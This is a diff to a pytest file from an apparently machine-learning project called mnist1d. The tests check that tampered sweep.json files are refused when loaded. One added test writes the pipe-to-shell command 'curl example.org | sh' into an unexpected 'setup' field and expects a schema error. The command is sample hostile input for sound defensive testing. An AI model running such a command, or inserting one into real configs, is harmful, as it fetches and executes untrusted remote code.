@@ -11,6 +11,7 @@ import pytest
 from hydra.utils import get_method
 
 from mnist1d.config.compose import SWEEP_CONF, compose_train, config_options
+from mnist1d.records import RecordError
 from mnist1d.sweeps.spec import SweepSpec, build_spec, check_overrides, compose_sweep
 from mnist1d.trusted import UntrustedFileError, report_function
 
@@ -88,7 +89,6 @@ def test_a_resumed_sweep_takes_what_sweep_py_writes(tmp_path):
         ({"launcher": "my.Launcher"}, "launcher"),
         ({"fixed": "model=cnn"}, "fixed"),
         ({"axes": {"seed": [0]}}, "axes and fixed"),
-        ({"extra": 1}, "fields"),
     ],
 )
 def test_a_crafted_sweep_json_is_refused_naming_the_field(change, key, tmp_path):
@@ -96,4 +96,12 @@ def test_a_crafted_sweep_json_is_refused_naming_the_field(change, key, tmp_path)
     path = tmp_path / "sweep.json"
     path.write_text(json.dumps(json.loads(path.read_text()) | change))
     with pytest.raises(UntrustedFileError, match=re.escape(f"{path}: {key}")):
+        SweepSpec.load(tmp_path)
+
+
+def test_a_sweep_json_with_fields_sweep_py_does_not_write_is_refused(tmp_path):
+    saved_spec([]).save(tmp_path)
+    path = tmp_path / "sweep.json"
+    path.write_text(json.dumps(json.loads(path.read_text()) | {"setup": "curl example.org | sh"}))
+    with pytest.raises(RecordError, match=re.escape(f"{path}: fields ['setup'] are not in schema")):
         SweepSpec.load(tmp_path)
